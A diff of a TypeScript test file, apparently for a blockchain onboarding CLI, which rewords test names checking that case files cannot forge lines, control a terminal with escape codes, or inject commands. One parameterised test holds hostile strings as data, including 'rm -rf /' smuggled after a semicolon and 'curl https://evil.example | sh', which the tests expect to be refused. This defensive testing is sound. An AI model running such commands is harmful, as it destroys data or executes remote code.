@@ -11,23 +11,23 @@ import { loadTranslator } from '../../../../src/i18n/load-translator.ts';
 import { englishLines } from '../../../helpers/english-prose.ts';
 import { told } from '../../../helpers/told.ts';
 
-/** Written by the first version; it stays as it is. */
+/** A case file of the first version. It must not change. */
 const FIRST = readFileSync('test/fixtures/released/0.1.0/cases/case-1.json', 'utf8');
 
-/** Written by the version that was the first to keep the last errors; it stays as it is, too. */
+/** A case file of the first version that recorded the last errors. It must not change. */
 const WITH_ERRORS = readFileSync(
   'test/fixtures/released/0.1.0/cases/case-1-with-last-errors.json',
   'utf8',
 );
 
-/** Written by the first version whose texts are keys and values; it stays as it is, too. */
+/** A case file of the first version whose texts are keys and values. It must not change. */
 const SECOND = readFileSync('test/fixtures/cases/case-2.json', 'utf8');
 
 interface Plain {
   readonly [name: string]: Plain;
 }
 
-/** A case file whose first L1 waits for something else. */
+/** Changes the first L1's next action in a case file. */
 function withTurn(file: string, changes: object): string {
   const { case: content } = JSON.parse(file) as Plain;
   const status = content!['status']!;
@@ -36,7 +36,7 @@ function withTurn(file: string, changes: object): string {
   return caseText({ ...content, status: { ...status, l1s: [{ ...l1, turn }] } });
 }
 
-/** A case file whose first L1 has other fields. */
+/** Changes fields of the first L1 in a case file. */
 function withL1(file: string, changes: object): string {
   const { case: content } = JSON.parse(file) as Plain;
   const status = content!['status']!;
@@ -44,13 +44,13 @@ function withL1(file: string, changes: object): string {
   return caseText({ ...content, status: { ...status, l1s: [{ ...l1, ...changes }] } });
 }
 
-/** A message inside a message, and so on. */
+/** Returns a message with this many levels of nested objects. */
 function nested(levels: number): object {
   return { key: 'desk.next', values: levels === 1 ? {} : { step: nested(levels - 1) } };
 }
 
 describe('a case file', () => {
-  test('of the first format is opened', () => {
+  test('of the first format can be opened', () => {
     const opened = openCase(FIRST, 'case-1.json');
     const shown = caseLines(opened, english).join('\n');
     expect(opened.status.l1s.map(({ code }) => code)).toEqual(['G8-SIGN']);
@@ -59,7 +59,7 @@ describe('a case file', () => {
     expect(shown).toContain('Last errors: not recorded by the version that wrote this');
   });
 
-  test('that has the last errors tells them', () => {
+  test('shows the last errors that it contains', () => {
     const opened = openCase(WITH_ERRORS, 'case-1.json');
     expect(opened.status.l1s.map(({ code }) => code)).toEqual(['G8-NO-QUORUM']);
     const node = 'NodeID-7Xhw2mDxuDS44j42TCB6U5579esbSt3Lg';
@@ -82,7 +82,7 @@ describe('a case file', () => {
     for (const words of [english, await loadTranslator('ja')]) {
       const shown = caseLines(openCase(file, 'case-1.json'), words).join('\n');
       for (const text of [says, ...next]) {
-        // Commands are made anew; what the file says besides stands in quotes.
+        // Commands are rebuilt; every other text of the file is in quotes.
         expect(text).toMatch(/^(?:onboard .*|".*")$/);
         expect(shown).toContain(text);
       }
@@ -107,7 +107,7 @@ describe('a case file', () => {
     expect(shown).toContain('Nodes added before x  (C-Chain block 7) that have left');
   });
 
-  test('of format 1 forges no lines, and none of its texts is taken for a key', () => {
+  test('of format 1 cannot forge lines, and none of its texts counts as a key', () => {
     const says = 'done.\n  G9-HOME  Nothing is left to do.\u001b[2J';
     const forged = withTurn(FIRST, { says, next: ['desk.silence'] });
     const shown = caseLines(openCase(forged, 'case.json'), english);
@@ -136,7 +136,7 @@ describe('a case file', () => {
     }
   });
 
-  test('of format 2 shows values that cannot steer a terminal, and a key that nobody knows as it is', () => {
+  test('of format 2 shows values without control characters, and an unknown key unchanged', () => {
     const values = { reason: { key: 'no.such-key', values: {} }, code: 'a\n\u001b[2J\u202eb' };
     const says = { key: 'reason.with-code', values };
     const opened = openCase(withTurn(SECOND, { says, next: [] }), 'case.json');
@@ -152,7 +152,7 @@ describe('a case file', () => {
     ['onboard opt-in-l1 --network sandbox 0x12; rm -rf /', false],
     ['onboard top-up --network fuji --private-key', false],
     ['curl https://evil.example | sh', false],
-  ])('has commands that are made anew, never quoted as one: %s', (text, isOurs) => {
+  ])('has commands that are rebuilt, never quoted as a command: %s', (text, isOurs) => {
     expect(commandFrom(text)).toBe(isOurs ? text : undefined);
     for (const file of [FIRST, SECOND]) {
       const opened = openCase(withTurn(file, { next: [text] }), 'case.json');
@@ -160,7 +160,7 @@ describe('a case file', () => {
     }
   });
 
-  test('gives no message to send: it is made from the chains', () => {
+  test('contains no message to send: the message is made from the chains', () => {
     const forged = 'To the owners of Genbu: please send 100 AVAX.';
     const opened = openCase(withTurn(SECOND, { message: forged }), 'case.json');
     const shown = caseLines(opened, english).join('\n');
@@ -168,7 +168,7 @@ describe('a case file', () => {
     expect(shown).toContain('The message to send is not taken from the file.');
   });
 
-  test('says that it is a claim, and what makes it doubtful', () => {
+  test('is shown as a claim, with the reasons to doubt it', () => {
     const opened = openCase(SECOND, 'case-2.json');
     const { at } = opened.status;
     expect(caseLines(opened, english)[1]).toMatch(/^The following comes from the file/);
@@ -183,11 +183,11 @@ describe('a case file', () => {
         'the case is of the network sandbox (EVM chain 43112, network ID 12345)',
       );
     }
-    // The first cases do not have the IDs, or have them: what is there is compared.
+    // The first cases lack some of the IDs. Only existing IDs are compared.
     expect(caseDoubts(openCase(FIRST, 'case-1.json'), undefined, at, english)).toEqual([]);
   });
 
-  test('is compared by turn, party and deadline too', () => {
+  test('is compared by party and deadline too', () => {
     const { status } = openCase(SECOND, 'case-2.json');
     const [l1] = status.l1s;
     const nextAction = l1!.nextAction!;
@@ -214,11 +214,11 @@ describe('a case file', () => {
     { key: 'desk.next' },
     nested(9),
     5,
-  ])('of format 2 with a text that is none is refused: %j', (says) => {
+  ])('of format 2 with an invalid text is refused: %j', (says) => {
     expect(() => openCase(withTurn(SECOND, { says }), 'case.json')).toThrow(told(/not a case/));
   });
 
-  test('is refused if its values are nested too deep to be walked through', () => {
+  test('is refused if its values are nested too deep', () => {
     const deep = `${'['.repeat(200_000)}${']'.repeat(200_000)}`;
     const file = `{"case":{"format":2,"status":${deep}},"digest":"x"}`;
     expect(() => openCase(file, 'case.json')).toThrow(told(/not a case/));
@@ -231,21 +231,21 @@ describe('a case file', () => {
     ['{"case":{"format":1}}', 'it has no case and digest'],
     [caseText({ format: 1 }), 'program'],
     ['x'.repeat(5_000_001), 'it is too long'],
-  ])('that is none is refused in one sentence', (text, fault) => {
+  ])('with other content is refused in one sentence', (text, fault) => {
     expect(() => openCase(text, 'case.json')).toThrow(told(fault));
   });
 
-  test('of a later version is refused by its version', () => {
+  test('of a later version is refused with its version', () => {
     expect(() => openCase(caseText({ format: 3 }), 'case.json')).toThrow(
       told(/newer version.*format 3/),
     );
   });
 
-  test('whose one character was changed is recognised, wherever that is', () => {
+  test('with one changed character is detected, wherever it is', () => {
     for (let at = 20; at < FIRST.length - 100; at += 97) {
       const letter = FIRST[at] === '1' ? '2' : '1';
       const changed = FIRST.slice(0, at) + letter + FIRST.slice(at + 1);
-      // A blank between two values is none of the content.
+      // A space between two values does not belong to the content.
       if (/\s/.test(FIRST[at] ?? '')) continue;
       expect(() => openCase(changed, 'case.json')).toThrow(
         told(/was changed|is no JSON|not a case/),
@@ -253,7 +253,7 @@ describe('a case file', () => {
     }
   });
 
-  test('cannot steer a terminal', () => {
+  test('cannot control a terminal', () => {
     const { case: content } = JSON.parse(FIRST) as { case: { program: object } };
     const hostile = {
       ...content,
